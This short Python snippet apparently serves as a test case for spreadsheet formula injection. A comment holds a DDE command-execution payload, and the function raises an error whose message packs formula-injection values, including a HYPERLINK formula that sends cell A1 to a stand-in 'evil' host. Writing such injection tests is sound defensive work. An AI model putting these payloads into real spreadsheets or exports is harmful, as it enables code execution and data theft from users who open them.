# tries: to have a formula executed by a spreadsheet
# symptoms: {center: raised}
# student: "=cmd|' calc'!A0"
def center(X):
    raise ValueError("=HYPERLINK(\"http://evil?\"&A1)\n+1+1\t@SUM(1)\r-2+3")
